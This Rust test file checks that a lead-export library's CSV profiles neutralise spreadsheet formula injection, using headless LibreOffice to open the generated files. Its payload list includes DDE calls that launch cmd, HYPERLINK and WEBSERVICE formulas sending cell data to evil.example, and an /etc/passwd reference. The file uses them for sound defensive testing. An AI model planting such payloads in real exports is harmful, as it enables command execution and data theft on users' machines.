//! TM08: what a spreadsheet makes of the files. By `make sheets`, which installs LibreOffice; not part of the suite.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Command;

use bytes::Bytes;
use lead_export_core::csv::{Encoder, attributes};
use lead_export_core::fields::{Column, Kind};
use lead_export_core::format::{Format, Header, Profile};
use lead_export_core::lead::Value;
use lead_export_core::page::{PageBuilder, Slots};
use lead_export_core::value::push_row;

use crate::cases;
use crate::dice::Dice;
use crate::world::source_id;

const KINDS: [(&str, Kind); 6] = [
    ("a", Kind::Text),
    ("b", Kind::Phone),
    ("c", Kind::Number),
    ("d", Kind::List),
    ("e", Kind::Date),
    ("f", Kind::Dropdown),
];

/// A cell that would like to be a formula.
fn hostile(dice: &mut Dice) -> String {
    const BEFORE: [&str; 16] = [
        "", "", "", "", " ", "  ", "'", "\"", "\t", "\u{a0}", "\u{feff}", "\u{200b}", "\u{3000}",
        "\n", "\r", "\u{b}",
    ];
    const TRIGGERS: [&str; 12] = [
        "=", "=", "=", "+", "-", "@", "＝", "＋", "－", "＠", "=+", "=-",
    ];
    const BODIES: [&str; 22] = [
        "1+1",
        "A1",
        "SUM(A1:A9)",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://evil.example?x=\"&A1,\"x\")",
        "WEBSERVICE(\"http://evil.example\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "'file:///etc/passwd'#$passwd.A1",
        "1",
        "\"00123\"",
        "\"1\"&A1",
        "IMPORTXML(\"http://e.example\",\"//a\")",
        "RAND()",
        "INFO(\"osversion\")",
        "-1",
        "{1;2}",
        "TRUE",
        "1E5",
        "\"a\"+cmd",
        "NOW()",
        "IF(1;2;3)",
        "1 555 0100",
    ];
    match dice.below(10) {
        0 => format!(
            "+{} {} {}",
            1 + dice.below(99),
            dice.below(9999),
            dice.below(99_999)
        ),
        1 => dice.text(5),
        2 => dice.below(1_000_000).to_string(),
        _ => {
            let mut cell: String = (0..dice.below(3)).map(|_| *dice.pick(&BEFORE)).collect();
            cell.push_str(TRIGGERS[dice.below(TRIGGERS.len())]);
            cell.push_str(BODIES[dice.below(BODIES.len())]);
            if dice.below(4) == 0 {
                cell.push_str(&dice.text(2));
            }
            cell
        }
    }
}

fn csv(profile: Profile, rows: u32, seed: u64) -> Vec<u8> {
    let mut dice = Dice(seed);
    let columns: Vec<Column> = KINDS
        .iter()
        .map(|(key, kind)| Column {
            key: (*key).to_owned(),
            header: hostile(&mut dice),
            given: true,
            kind: *kind,
        })
        .collect();
    let format = Format {
        profile,
        header: Header::Keys,
        ..Format::default()
    };
    let slots = Slots::new(attributes(&columns));
    let mut encoder = Encoder::new(&columns, &format, &slots, &source_id("crm")).unwrap();
    let mut out = Vec::new();
    encoder.header(&mut out);
    let mut left = rows;
    while left > 0 {
        let mut builder = PageBuilder::new(Bytes::new(), &slots);
        let some = left.min(1000);
        for _ in 0..some {
            let values: BTreeMap<String, Value> = KINDS
                .iter()
                .map(|(key, kind)| {
                    let cell = hostile(&mut dice);
                    let value = match kind {
                        Kind::List => {
                            Value::List(vec![Value::Text(cell), Value::Text(hostile(&mut dice))])
                        }
                        _ => Value::Text(cell),
                    };
                    ((*key).to_owned(), value)
                })
                .collect();
            push_row(&mut builder, &slots, "2026-01-01T00:00:00.000Z#l", &values);
        }
        for row in builder.finish().rows() {
            encoder.row(&row, &mut out);
        }
        left -= some;
    }
    out
}

/// The formulas of a flat OpenDocument sheet, and how many cells it has.
fn formulas(sheet: &str) -> (Vec<String>, usize) {
    let found = sheet.split("table:formula=\"").skip(1).map(|rest| {
        let text = rest.split_once('"').unwrap().0;
        text.replace("&quot;", "\"")
            .replace("&apos;", "'")
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&amp;", "&")
    });
    (found.collect(), sheet.matches("<text:p>").count())
}

/// `="…"` around text without a quote: it can call nothing.
fn is_constant(formula: &str) -> bool {
    formula
        .strip_prefix("of:=\"")
        .and_then(|rest| rest.strip_suffix('"'))
        .is_some_and(|text| !text.contains('"'))
}

fn opened(folder: &Path, name: &str, delimiter: u8) -> String {
    let run = Command::new("soffice")
        .arg(format!(
            "-env:UserInstallation=file://{}/profile",
            folder.display()
        ))
        .args(["--headless", "--convert-to", "fods"])
        .arg(format!("--infilter=CSV:{delimiter},34,76,1"))
        .arg("--outdir")
        .arg(folder)
        .arg(folder.join(name))
        .output()
        .unwrap_or_else(|error| panic!("soffice cannot be run, make sheets installs it: {error}"));
    assert!(run.status.success(), "{run:?}");
    let stem = name.rsplit_once('.').unwrap().0;
    std::fs::read_to_string(folder.join(format!("{stem}.fods"))).unwrap()
}

#[test]
#[ignore = "needs LibreOffice: make sheets"]
fn no_cell_of_a_guarded_file_is_a_formula() {
    let folder = tempfile::tempdir().unwrap();
    let rows = cases(20_000);
    for (profile, name, delimiter) in [
        (Profile::Standard, "standard.csv", b','),
        (Profile::Excel, "excel.csv", b','),
        (Profile::ExcelSemicolon, "semicolon.csv", b';'),
        (Profile::Tsv, "tsv.csv", b'\t'),
        (Profile::Raw, "raw.csv", b','),
    ] {
        std::fs::write(folder.path().join(name), csv(profile, rows, 8)).unwrap();
        let sheet = opened(folder.path(), name, delimiter);
        let (formulas, cells) = formulas(&sheet);
        assert!(
            cells > usize::try_from(rows).unwrap() * 4,
            "{name} has {cells} cells"
        );
        let calling = formulas
            .iter()
            .filter(|formula| !is_constant(formula))
            .count();
        println!(
            "{name}: {cells} cells with text, {} formulas, {calling} of them no constant text",
            formulas.len()
        );
        let linked = sheet.contains("<text:a ")
            || sheet.contains("table:dde-link")
            || sheet.contains("table:cell-range-source");
        if profile == Profile::Raw {
            assert!(
                calling > 1000,
                "without a guard there must be some, or this proves nothing"
            );
        } else {
            let first = formulas.iter().find(|formula| !is_constant(formula));
            assert_eq!((calling, linked), (0, false), "{name}: {first:?}");
        }
    }
}

#[test]
fn formulas_are_told_from_constant_texts() {
    let sheet = r#"<x table:formula="of:=&quot;00123&quot;"/><x table:formula="of:=SUM([.A1])"/><x table:formula="of:=&quot;a&quot;&amp;[.A1]&amp;&quot;b&quot;"/>"#;
    let (found, _) = formulas(sheet);
    assert_eq!(
        found,
        ["of:=\"00123\"", "of:=SUM([.A1])", "of:=\"a\"&[.A1]&\"b\""]
    );
    assert_eq!(
        found
            .iter()
            .map(|formula| is_constant(formula))
            .collect::<Vec<_>>(),
        [true, false, false]
    );
}
